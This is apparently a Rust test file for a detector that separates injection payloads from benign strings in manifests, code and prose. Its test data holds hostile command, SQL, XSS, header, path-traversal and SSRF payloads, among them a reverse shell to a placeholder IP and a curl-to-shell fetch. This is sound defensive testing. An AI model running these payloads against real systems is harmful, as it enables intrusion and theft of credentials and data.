//! Attacks, and what stands closest to them in documents, manifests and settings.

use super::*;

fn found(value: &str) -> Option<Class> {
    let finding = Detector::shared().judge(value, Kind::Value, &mut Scratch::default());
    finding.map(|finding| finding.class)
}

/// The first are found, under their class; the second pass.
pub(super) fn told_apart(class: Class, attacks: &[&str], neighbours: &[&str]) {
    for attack in attacks {
        assert_eq!(found(attack), Some(class), "{attack:?}");
    }
    for neighbour in neighbours {
        assert_eq!(found(neighbour), None, "{neighbour:?}");
    }
}

#[test]
fn commands_are_told_from_scripts_of_manifests_and_signs_of_code() {
    told_apart(
        Class::Command,
        &[
            "x && node -e 'require(1)'",
            "a&id",
            "x`id`",
            "x;cat `echo /etc/passwd`",
            "x | head -n 1 /etc/passwd",
            "npm ; cat /etc/passwd",
            "if [ ; cat /etc/shadow",
            "a b/c && id",
            "x --bc ; whoami",
            "#!/ ; curl http://x.example/a | sh",
            &format!("{} ; cat /etc/passwd", "padding ".repeat(60)),
            &format!("{}\n\n\n;bash -i >& /dev/tcp/192.0.2.1/4 0>&1", "padding ".repeat(200)),
        ],
        &[
            "husky && node ./scripts/platform.js",
            "npm run build && ls -la dist && cat dist/index.js",
            "tsc -p . ; rm -rf out ; curl -o out http://x.example/a",
            "esbuild a.js --bundle --outfile=b.js && node scripts/c.js",
            "assert(parse(&cmd, arg));",
            "fn exit(&self, _: &Id) {}",
            "2. Run `node --test`",
            "m.get_many::<String>(\"cmd\")",
            "empty; tail = {tail}; head = {head}",
            "{\"a\":1,&x;\"Id\":\"b\"}",
            "(?:\\d|\\d\\d|[01]\\d\\d)",
            "image/png;base64",
            "/bin/sh",
        ],
    );
}

#[test]
fn paths_are_told_from_settings_modules_and_ellipses() {
    told_apart(
        Class::Traversal,
        &[
            "/etc/ssh/sshd_config",
            "/proc/self/environ",
            "/var/log/apache2/access.log",
            "../../../../../../x.conf",
            ".../.../.../x",
            "^../../../../../../etc/passwd",
        ],
        &[
            "/etc/localtime",
            "/etc/my-pkg/conf.toml",
            "/var/lib/foo/bar",
            "/var/log/happy",
            "/proc/self/mounts",
            "../../../../../../internal/server.js",
            "https://.../report",
            "^.*\\..*\\..*$",
            "https://example.com/..../tree",
        ],
    );
}

#[test]
fn headers_are_told_from_names_of_code_and_from_sentences_about_them() {
    told_apart(
        Class::Header,
        &["en\r\nX-Forwarded-Host: e.example", "a\r\nAccess-Control-Allow-Origin: *"],
        &[
            "// build.rs\ncc::Build::new()",
            "--a8f2c1\nContent-Type: text/plain",
            "It is needed with an\nAccess-Control-Request-Headers header.",
        ],
    );
}

#[test]
fn sql_is_told_from_code_and_text_that_end_in_quotes_and_signs() {
    told_apart(
        Class::Sql,
        &[
            "-1') order by 7;--",
            " order\tby 4",
            "1 - any(select 1)",
            "1 union all --",
            "1 || name is not null",
            "iif(3=4,3,1/0)",
            "case sin(1) when 2 then 2 end",
            "' or a regexp b -- x",
            " as x where 1=1 and 2=2",
            "x'/**/&&/**/'",
            "1\"\nor\nx\n=\n1\nor\n\"2\"=\"2",
            "1'+or+2=2+or+'%'='",
            "--1 union select 2,3",
            "' -- &a=b",
            "(1<>2)*2",
        ],
        &[
            "let b = Loader::new()\n    .load_file(\"a.o\")?;",
            "3. This notice may not be removed\nfrom any source.\n\"#",
            "doesn't support this system.\");",
            "tchar = \"!\" / \"#\" / \"$\"",
            "\"@app/*\"",
            "@scope/*",
            "This enables statements as 'WHERE (A IS NULL)' or 'WHERE (B = C)' here",
            "`repeat(1..=3, a)`",
            "put them in order\nor by hand",
            "Break up an 'order by' expression into columns",
        ],
    );
}

#[test]
fn scripts_that_step_out_of_a_string_are_told_from_joined_texts() {
    told_apart(
        Class::Xss,
        &[
            "<img\u{c}src=x\u{c}onerror=alert(1)>",
            "\\\";send(1);//",
            "\"-send(1)-\"",
            "';alert?.(1)//",
            "x<script>({a:1})</script>",
            "<script>.*(1)</script>",
        ],
        &[
            "^(?!.*<script>.*</script>.*)[^:]+$",
            "', send(1), '",
            "parse::<Script>()",
            "data: none",
            "\"); send(1);",
        ],
    );
}

#[test]
fn pages_and_styles_are_told_from_what_names_them() {
    told_apart(
        Class::Xss,
        &[
            "<meta content=\"0; url=//b.example/\" http-equiv=refresh>",
            "<link rel='stylesheet' href=//b.example/c.css>",
            "<style>@font-face{font-family:b;src:url(c.svg#d)}</style>",
            "<style>*{col/**/or:red}</style>",
            "<b style='no\\xy:z'>",
            "<b ping=\"javascript:f(1)\">",
            "window['f'](1)",
            "[ ] . map . call ` ${eval} `",
            "{onerror=f}throw 1",
            "scriptf(b)/script",
            "b=alert(1)\">",
            "iframe src=javascript:f(1)",
            "<base b href / =",
        ],
        &[
            "The document does not use `<meta http-equiv=\"refresh\">`",
            "<link rel=\"apple-touch-icon\" sizes=\"180x180\" href=\"https://b.example/c.png\">",
            "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/b@1/c.css\">",
            "<title>a page</title>\n<body>b</body>",
            "<b title=\"javascript: a history\">",
            "alert('Please save or cancel your changes.');",
            "String.fromCharCode(55296+(t-65536>>10))",
            "window['a b'] = c",
            "script a/script",
            "<b xmlns='http://b.example/' xsi:schemaLocation='http://b.example/ http://www.b.example/c.xsd'>",
        ],
    );
}

#[test]
fn statements_of_tools_are_told_from_those_that_ask_the_server_about_itself() {
    told_apart(
        Class::Sql,
        &[
            "select @@version",
            "exec sp_addlogin 'b'",
            "declare @b varchar(9) select @b = 0x73",
            "lower(b)::int",
            "select * from pg_shadow",
            "unhex(",
            "b@c.example'/* d */;",
            "b` or 1=1 -- ",
        ],
        &[
            "select pg_notify($1, $2)",
            "SELECT @@identity AS b",
            "EXEC sp_rename 'a.b', c, 'COLUMN'",
            "DECLARE @b NVARCHAR(20);",
            "(state = 'active'::text)",
            "select name from sqlite_master",
            "max(",
            "`b` or `c` = 1",
            "it's;",
            "@method select\n@memberOf Query\n@instance\n@param {object} arg\n@return {Query} this\n@see SchemaType for more about what can be given here",
        ],
    );
}

#[test]
fn scripts_of_shells_and_messages_are_told_from_what_ends_a_command_or_a_header() {
    told_apart(
        Class::Command,
        &["x | 'id'", "b=1;id", "a<b|id", "x && node /tmp/bin/a"],
        &[
            "files=$(find b -name '*.png' | head -20)",
            "if ! echo \"$file\" | egrep -q '^b'; then",
            "show <name|id>",
            "@param {'scroll' | 'system'} [kind='system'] - The kind.",
            "return value != null && 'id' in value;",
            "shx mv dist build && node build/bin/rollup --config c.ts",
            "tailwind src/a.css && cp -r b dist/",
        ],
    );
    told_apart(
        Class::Header,
        &["b\r\nRCPT TO: <c@d.example>", "b%0d%0aRefresh: 0"],
        &[
            "\\\nPOST /b HTTP/1.1\nHost: c\nContent-Type: text/plain",
            "--001a113e\nContent-Type: text/html\nContent-Transfer-Encoding: base64",
            "GET /b?c=d%20e HTTP/1.1\nHost: f\nContent-Length: 2",
            "It begins with\nMAIL FROM: command, or\nSTARTTLS where it is there",
        ],
    );
}

#[test]
fn addresses_are_told_from_schemes_alone_and_look_ups_from_names() {
    told_apart(
        Class::Ssrf,
        &["file:/etc/x", "http://[::1]/", "http://localhost/", "http://localhost:6379"],
        &[
            "file://",
            "file://mappings.json",
            "file://${path}",
            "data://",
            "http://localhost",
            "redis://localhost:6379",
        ],
    );
    told_apart(Class::Lookup, &["${hostName}"], &["${hostname}:${port}", "${sys:java.io.tmpdir}"]);
}

#[test]
fn sql_with_signs_names_in_backticks_and_doubled_quotes_is_told_from_documents() {
    told_apart(
        Class::Sql,
        &[
            "-1 union select -~1,a from b",
            "1 union select not 1,2",
            "1` or `a`=`a",
            "1`) and sleep(5) and (`a`=`a",
            "a''b' or 1=1--",
            "A '-' B -- -",
            "-1 '*' 2",
            "1.e.tables",
            "1 order by -1",
            "1-@a or'1",
            "(-8)=(-3)",
            "id,(case when 1=1 then 1 else 2 end)",
            "sleep((5))#",
            "-1') union all",
            "x'*null is null - '-- ",
            "(binary binary cos(1));",
            "' or 'a'=",
            "unhex&(",
        ],
        &[
            "select not found",
            "select binary files",
            "a `b` or `c` = `d`",
            "`&&` wants all of `a` and `b`",
            "x = '' or y = 'z'",
            "A '-' B - C",
            "1.e. the rest",
            "order by -name",
            "1 or '90s",
            "(-8) to (-3)",
            "a,(case of b)",
            "the students') union",
            "'</code></pre>';",
            "max(",
        ],
    );
}

#[test]
fn rests_of_tags_and_scripts_are_told_from_code_and_text() {
    told_apart(
        Class::Xss,
        &[
            "' src='vbscript:msgbox(\"b\")'>",
            "embed src=\"data:text/html;base64,b\">c",
            "f(1)</script>",
            "src=\"//b.example/c.js\"></script>",
            ":alert('b');\"></b>",
            "'>scriptalert(b)/script",
            "confirm(2)>/",
            "src=b onerror=location='//c.example'",
            "onload=top.alert(1)",
            "\"onzoom=",
            "onload  =  !-alert(1)>",
            "\">'><script>",
            "<b onload%()",
            "<meta http-equiv=\"refresh\"",
            "<b href=\"javascrip",
            "<svgonload=alert(1)>",
            "<importimplementation=",
            "<b/onclickalert(1)>",
            "<scriptalert(1)</script>",
            "b<f o r m",
            "<b src=''javascript:f(1)''>",
            "<b style=\\\"behavior: url(c)\\\">",
            "<img src=\"javascrscriptipt:f(1)\">",
            "<v:vmlframe src=\"b.example/c.fml\"/>",
            "<link href=\"b.js\" rel=stylesheet type=\"text/javascript\">",
            "x:expression(write(1))",
        ],
        &[
            "graph.render();\n</script>",
            "</script>",
            "b = \"</script\" + \">\";",
            "'&#x3C;/scripts.js>; rel=preload; as=script'",
            "<link rel=\"search\" type=\"application/opensearchdescription+xml\" href=\"b.xml\">",
            "(script) => script.src = \"b.js\"",
            "if (script.length > 1 && b == \"c\") { f(\"d\"); }",
            "The onload=init() attribute of the document",
            "onload=function(){init(document)}",
            "onclick=handler",
            "a <script> of the page",
            "call alert(1) > 2 times in the document",
            "\"type=",
            "if a <b c d e",
            "<f o x>",
            "<b src='' id=c>",
            "<ScriptKind.B>(b)",
            "see script/build(1)/scripts",
        ],
    );
}

#[test]
fn short_scripts_are_told_from_code_lines() {
    told_apart(
        Class::Xss,
        &[
            "';location='//b.example'//",
            "';top['b'](1)//",
            "'+top.alert(1)+'",
            "1;alert('b')",
            "x&&top.alert(1)",
            "eval('1 + 1')",
            "setTimeout(\"b\",0)",
            "Function('b')()",
            "this[\"document\"]",
            "document[\"\\143ookie\"]",
            "!![]",
            "document.location='http://b.example/'",
            "queueMicrotask(alert)",
            "ja&Tab;vascript:",
            "java\nscript:b",
        ],
        &[
            "'; b = c; //",
            "'; b == 'c'; //",
            "'b' + f() + 'c'",
            "1, alerts(2)",
            "eval(b)",
            "setTimeout(b, 0)",
            "this[\"b\"]",
            "[[]]",
            "[]+[]",
            "[][]",
            "window.location.href = '/b';",
            "javascript: a language",
        ],
    );
}

#[test]
fn styles_whose_end_is_disputed_are_told_from_those_of_pages() {
    told_apart(
        Class::Xss,
        &[
            "<div style=\"font-family:'b[c];color:red;'\">",
            "<p style=\"background:url('b;color:red;/*')\">",
            "<div style=\"\ncolor\n:\nred\">",
            "<div style=\"b:52c8'd'9\">",
            "<style>@import \"//b.example/c.css\";</style>",
            "<style>@import\\'b\\';</style>",
        ],
        &[
            "<div style=\"font-family:'Open Sans',serif;color:red\">",
            "<p style=\"background:url('data:image/png;base64,iVBO')\">",
            "<div style=\"\n  color: red;\n  margin: 0\n\">",
            "<p style=\"content:'a; b'\">",
            "<style>@import url(\"b.css\");</style>",
        ],
    );
}

#[test]
fn brackets_apart_or_without_a_semicolon_and_links_of_forums_are_told_from_text() {
    told_apart(
        Class::Xss,
        &[
            "top[\"\\141b\"]",
            "self['b\\x24']",
            "onload=print()",
            "http-equiv=\"refresh\" content=\"0;url=//b.example\"",
            "document.querySelector(\"p\").textContent=\"b\"",
            "&ltscript&gtalert(1)&lt/script&gt",
            "&LTimg src=x onerror=f(1)",
            "&#0000106 &#0000097 &#0000118 &#0000097 &#115 &#99 &#114 &#105 &#112 &#116 &#58 &#102 &#40 &#49 &#41",
            "< iframe src=//b.example>",
            "< a href=javascript:f(1)>",
            "[img]javascript:f(1)[/img]",
            "[url=\"javascript:f(1)\"]b",
            "[b](javascript:f(1))",
            "<!--\nalert(1)\n-->",
            "'-f`1`-'",
            "'-[f(1)]-'",
            "'+f(document.cookie)+'",
            "x:expression8write(1)9",
            "background-image:\\75\\72\\6C\\28\\27\\6a",
            "background-image:\u{1}javascript",
            "<xsl:stylesheet version=\"1.0\">",
            "b\" formaction=\"javascript:f(1)",
            "<button formaction=//b.example>",
            "<a ping=\"https://b.example/\" href=c>",
        ],
        &[
            "this[\"b\\n\"]",
            "onload=b",
            "set http-equiv to refresh, and content to what url= has",
            "document.querySelector(\"p\").textContent = b",
            "a &lt b and c &gt d",
            "https://b.example/?c=1&lt=2&gte=3",
            "if a < b and script == c",
            "i < body.length",
            "a < set and b = 1",
            "[b](https://c.example)",
            "[javascript: the language](b.md)",
            "[b](javascript:void(0))",
            "<!-- document\nthat shows alert(1)\n-->",
            "'-f(b) + c'",
            "'+f(b)+'",
            "regular expression8 of 9 (b)",
            "d:\\10\\20\\30\\40\\50",
            "background: black; script",
            "<xsl:value-of select=\"b\"/>",
            "<button formaction=\"/b\">",
            "<a ping=\"/b\" href=c>",
        ],
    );
}

#[test]
fn years_comparisons_in_sentences_and_images_are_told_from_conditions_styles_and_links() {
    told_apart(
        Class::Sql,
        &["1-@a or'1", "1,a from mysql.user;"],
        &[
            "1998 and '99",
            "2005 and \u{2019}06",
            "1 or 2 like the ones in the photo (blue)",
            "2 or 3 like those; thanks",
            "3 or 4 like these (red)",
        ],
    );
    told_apart(
        Class::Xss,
        &["width:expression(eval(location.search.slice(1)))", "color:red;\nwidth:expression(confirm(1))"],
        &["![a](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'/>)"],
    );
    // As many others before it as one likes.
    let behind = "http://a.example,".repeat(200) + "gopher://b.example:6379/_c";
    assert_eq!(found(&behind), Some(Class::Ssrf));
}
